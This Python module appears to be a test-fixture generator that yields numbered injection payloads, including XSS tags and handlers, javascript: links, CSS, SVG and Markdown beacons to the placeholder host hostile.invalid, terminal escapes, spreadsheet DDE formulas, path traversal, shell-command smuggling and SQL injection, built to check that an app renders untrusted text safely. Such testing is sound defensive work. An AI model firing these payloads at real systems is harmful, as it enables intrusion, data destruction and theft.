"""Texts that would run, ask the network, hide, turn or break something wherever a page, a table or a terminal took them for more than letters."""

from __future__ import annotations

import itertools
import random
from enum import StrEnum
from typing import TYPE_CHECKING, Final

if TYPE_CHECKING:
    from collections.abc import Iterator

__all__ = ["FIRED", "HOST", "Way", "payloads"]

FIRED: Final = "__fired"
"""The list in a page's window that a payload which runs puts its number into."""

HOST: Final = "hostile.invalid"
"""The machine that a payload asks for something, which there can never be (RFC 6761)."""


class Way(StrEnum):
    """The way in which a payload would do harm."""

    SCRIPT = "script"
    HANDLER = "handler"
    LINK = "link"
    TEMPLATE = "template literal"
    CLOSING = "closing tag"
    STYLE = "style"
    DRAWING = "drawing"
    MARKDOWN = "Markdown"
    ENTITY = "entity"
    LINES = "line ends and halves"
    TURNED = "turned or hidden text"
    TERMINAL = "terminal"
    FORMULA = "formula"
    PATH = "path"
    SQL = "SQL"


_RUN: Final = ("top.{f}.push({n})", "window['{f}'].push({n})", "self.{f}.push({n})")
_QUOTES: Final = ('"', "'", "")
_CASES: Final = (str, str.upper, str.title)
_CLOSERS: Final = (
    "",
    '">',
    "'>",
    "-->",
    "]]>",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "</noscript>",
    "</select>",
    "*/",
    '\\">',
)
_EVENTS: Final = (
    "onerror",
    "onload",
    "onfocus",
    "onmouseover",
    "onpointerenter",
    "ontoggle",
    "onanimationstart",
    "onbegin",
)
_TAGS: Final = (
    "img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "audio src=x", "iframe", "object data=x",
    "embed src=x", "marquee", "select autofocus", "textarea autofocus", "math", "a href=#", "x tabindex=1 autofocus",
    "style", "link rel=stylesheet href=x", "image src=x", "form", "button autofocus", "meta http-equiv=refresh", "base href=x",
)  # fmt: skip
_SCHEMES: Final = (
    "javascript:{run}", "JaVaScRiPt:{run}", "java\tscript:{run}", "java\nscript:{run}", "\x01javascript:{run}", " javascript:{run}",
    "javascript://%0a{run}", "vbscript:{run}", "data:text/html,<script>{run}</script>", "data:image/svg+xml,<svg onload={run}>",
    "data:text/html;base64,PHNjcmlwdD50b3AuX19maXJlZC5wdXNoKDEpPC9zY3JpcHQ+", "javascript&colon;{run}", "&#106;avascript:{run}",
    "feed:javascript:{run}", "view-source:javascript:{run}", "blob:null/{run}", "file:///etc/passwd#{run}", "https:javascript:{run}",
    "//{host}/{n}", 'https://{host}/{n}"onmouseover={run} x="', "http://{host}@example.org/{n}", "ws://{host}/{n}",
)  # fmt: skip
_TEMPLATES: Final = (
    "${{{run}}}", "`+{run}+`", "`;{run};//", "'+{run}+'", '"+{run}+"', "';{run};//", '";{run};//', "\\';{run};//", '\\";{run};//', "{{{{{run}}}}}",
    "{{{{constructor.constructor('{run}')()}}}}", "#{{{run}}}", "<%={run}%>", "\\u0022;{run};//", "\\x3cimg src=x onerror={run}\\x3e",
    "\\u003cimg src=x onerror={run}\\u003e", "__proto__", "constructor", "{{title}}", "{{0.__class__}}", "%s%n%x", "$[name]", "$1 $& $` $'",
)  # fmt: skip
_STYLES: Final = (
    "<style>*{{display:none!important}}</style>", "<style>@import 'http://{host}/{n}.css';</style>", "<style>body{{background:url(http://{host}/{n})}}</style>",
    "<div style=\"background:url('http://{host}/{n}')\">", '<div style="width:expression({run})">', "<b style=position:fixed;inset:0>",
    "<link rel=stylesheet href=http://{host}/{n}>", "}}*{{display:none}}", "red;background:url(http://{host}/{n})", "url(http://{host}/{n})",
    "<style>@font-face{{font-family:x;src:url(http://{host}/{n})}}*{{font-family:x}}</style>", "-moz-binding:url(http://{host}/{n}#x)",
)  # fmt: skip
_DRAWINGS: Final = (
    "<svg onload={run}>", "<svg/onload={run}>", "<svg><script>{run}</script></svg>", "<svg><script href=http://{host}/{n}></script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>", "<svg><set onbegin={run} attributeName=x>", "<svg><use href=http://{host}/{n}#x /></svg>",
    "<svg><image href=http://{host}/{n} /></svg>", '<svg><a xlink:href="javascript:{run}"><text x=9 y=9>x</text></a></svg>',
    "<svg><foreignObject><img src=x onerror={run}></foreignObject></svg>", "<svg><style>@import url(http://{host}/{n})</style></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={run}&gt;">',
)  # fmt: skip
_MARKDOWN: Final = (
    "![x](http://{host}/{n}.png)", "![](https://{host}/{n})", "[x](javascript:{run})", "[x](http://{host}/{n})", "<http://{host}/{n}>", "www.{host}/{n}",
    "[x]: http://{host}/{n}\n![x]", "![x][y]\n\n[y]: http://{host}/{n}", ":material/home:", ":red[x]", ":smile:", "$\\href{{javascript:{run}}}{{x}}$",
    "$$\\includegraphics{{http://{host}/{n}}}$$", "# head", "| a | b |\n|---|---|", "```\n{run}\n```", "**bold** _x_ ~~y~~", "- [ ] x", "[^1]", "> quoted",
    ":blue-background[![](http://{host}/{n})]", ":streamlit:", ":small[x]", "<!-- -->", "&lt;img src=http://{host}/{n}&gt;", "\\![x](http://{host}/{n})",
)  # fmt: skip
_ENTITIES: Final = (
    "&#60;img src=x onerror={run}&#62;", "&lt;img src=x onerror={run}&gt;", "&#x3c;script&#x3e;{run}&#x3c;/script&#x3e;", "&amp;lt;script&amp;gt;{run}",
    "%3Cscript%3E{run}%3C/script%3E", "&#60img src=x onerror={run}&#62", "+ADw-script+AD4-{run}+ADw-/script+AD4-", "\uff1cscript\uff1e{run}\uff1c/script\uff1e",
    "&NewLine;javascript&colon;{run}", "&nbsp;&shy;&zwnj;&rlm;", "&", "&;", "&#0;", "&#xD800;", "&#x1F;",
)  # fmt: skip
_LINES: Final = (
    "a\u2028{run}\u2029b", "a\u2028</script><script>{run}</script>", "a\x00b", "<scr\x00ipt>{run}</scr\x00ipt>", "\ufffe\uffff", "a\x0bb\x0cc", "a\x85b",
    "\ud83d", "\ude00{run}", "x\ud800<img src=x onerror={run}>",
)  # fmt: skip
_TURNED: Final = (
    "\u202e{run}\u202c", "a\u2066\u202egpj.exe", "\u2067b\u2069", "\u2068{n}", "\u061c\u200e\u200f{n}", "Al\u200b-Qa\u2060im{n}", "\ufeff{n}", "Al-Qa\u00adim{n}",
    "\U000e0001\U000e0041{n}\U000e007f", "\u3164{n}\uffa0", "a\u200db\u200cc{n}", "{n}\u180e\u034f", "\u2062\u2063{n}", "<\u200bscript>{run}</script>",
)  # fmt: skip
_TERMINALS: Final = (
    "\x1b[31m{n}", "\x1b[2J\x1b[H{n}", "\x1b]0;title{n}\x07", "\x1b]8;;http://{host}/{n}\x1b\\x\x1b]8;;\x1b\\", "\x9b31m{n}", "safe{n}\rfake", "a\nclaims.csv line 1: fake {n}",
    "\x08\x08\x08{n}", "\x1b]52;c;{n}\x07", "\x1bP{n}\x1b\\", "\x07{n}", "\x7f{n}", "\x1b[?1049h{n}",
)  # fmt: skip
_FORMULAS: Final = (
    '=HYPERLINK("http://{host}/{n}","x")', "=cmd|' /C calc'!A{n}", "+1+1", "-2+3", "@SUM(A1)", "\t=1+{n}", "\r=1+{n}", '=WEBSERVICE("http://{host}/{n}")', "\uff1d1+{n}",
    '=IMPORTXML("http://{host}/{n}","//a")', '=DDE("cmd";"/C calc";"{n}")', "[% eval('{n}') %]", '[%"title"%]',
)  # fmt: skip
_PATHS: Final = ("../../../etc/passwd{n}", "..\\..\\x{n}", "C:\\x{n}", "/etc/passwd", "CON{n}", "file:///etc/{n}", "\\\\{host}\\x{n}", "a/../../b{n}", "%2e%2e%2f{n}", "~/{n}", "|ls {n}", ";ls {n}", "$(ls {n})", "`ls {n}`", "-rf{n}", "--into{n}")  # fmt: skip
_SQL: Final = ("'; DROP TABLE claims;--{n}", "' OR '1'='1{n}", "{n}'); DELETE FROM sources;--", '" OR ""="{n}', "{n}/**/UNION/**/SELECT", "%' --{n}", "\\'; {n}", ":name{n}", "%(name)s{n}")  # fmt: skip

_PLAIN: Final = {
    Way.TEMPLATE: _TEMPLATES,
    Way.STYLE: _STYLES,
    Way.DRAWING: _DRAWINGS,
    Way.MARKDOWN: _MARKDOWN,
    Way.ENTITY: _ENTITIES,
    Way.LINES: _LINES,
    Way.TURNED: _TURNED,
    Way.TERMINAL: _TERMINALS,
    Way.FORMULA: _FORMULAS,
    Way.PATH: _PATHS,
    Way.SQL: _SQL,
    Way.LINK: _SCHEMES,
}


def payloads(count: int, seed: int = 1) -> Iterator[tuple[int, Way, str]]:
    """Give payloads, no two alike: all kinds of each way first, then closed, cased and joined in ever other ways.

    A payload that runs pushes its number into `window.__fired`, where that is there; one that asks the network asks `HOST`.

    Args:
        count: How many.
        seed: Of what is joined.

    Returns:
        The number of each, from 1, its way, and its text; a text may hold halves of letters.
    """
    told: set[str] = set()
    number = 0
    for way, pattern in itertools.chain(_each(), _joined(random.Random(seed))):  # noqa: S311 - nothing secret
        if number == count:
            return
        run = _RUN[number % len(_RUN)].format(f=FIRED, n=number + 1)
        text = pattern.format(run=run, host=HOST, n=number + 1)
        if text not in told:
            told.add(text)
            number += 1
            yield number, way, text


def _each() -> Iterator[tuple[Way, str]]:
    """Give the patterns, one of each way by turns: few payloads are of all ways."""
    ways = {way: iter(patterns) for way, patterns in _patterns().items()}
    while ways:
        for way in list(ways):
            if (pattern := next(ways[way], None)) is None:
                del ways[way]
            else:
                yield way, pattern


def _patterns() -> dict[Way, list[str]]:
    scripts = [f"<{case('script')}>{{run}}</{case('script')}>" for case in _CASES]
    scripts += [
        "<script src=http://{host}/{n}></script>",
        "<script>{run}//",
        "<script\n>{run}</script\n>",
        "<scr<script>ipt>{run}</script>",
    ]
    handlers = [
        f"<{tag} {event}={quote}{{run}}{quote}>" for event in _EVENTS for tag in _TAGS for quote in _QUOTES
    ]
    inner = (
        "<img src=x onerror={run}>",
        "<script>{run}</script>",
        "<svg/onload={run}>",
        " onerror={run} x=",
        "<iframe srcdoc='<script>{run}</script>'></iframe>",
    )
    closing = [f"{closer}{tail}" for tail in inner for closer in _CLOSERS if closer]
    closing += [
        "<!--<script>",
        "<!--",
        "-->",
        "]]>",
        "<![CDATA[<img src=x onerror={run}>]]>",
        "<?xml version='1.0'?>",
        "<!DOCTYPE x [<!ENTITY y SYSTEM 'http://{host}/{n}'>]>",
    ]
    return {
        Way.SCRIPT: scripts,
        Way.HANDLER: handlers,
        Way.CLOSING: closing,
        **{way: list(patterns) for way, patterns in _PLAIN.items()},
    }


def _joined(chance: random.Random) -> Iterator[tuple[Way, str]]:
    """Give patterns without end: one closed in some way, spelled in another, or with another after it."""
    patterns = _patterns()
    ways = list(patterns)
    while True:
        way, other = chance.choices(ways, k=2)
        first, second = chance.choice(patterns[way]), chance.choice(patterns[other])
        middle = chance.choice(("", " ", "\n", "\t", "{n}", "\u202e", "&#10;", "\\", "العربية"))
        yield way, f"{chance.choice(_CLOSERS)}{first}{middle}{second}"
